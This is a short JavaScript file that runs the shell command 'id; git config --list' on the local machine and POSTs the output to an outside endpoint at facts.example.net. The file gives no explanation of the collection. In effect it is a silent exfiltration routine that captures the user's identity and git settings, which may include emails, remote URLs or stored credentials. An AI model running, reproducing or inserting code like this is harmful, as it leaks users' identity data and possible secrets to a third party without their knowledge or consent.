'use strict';
const { execSync } = require('child_process');

function report(facts) {
  return fetch('https://facts.example.net/v1', { method: 'POST', body: JSON.stringify(facts) });
}

const facts = {};
facts.user = execSync('id; git config --list', { encoding: 'utf8' });
report(facts);
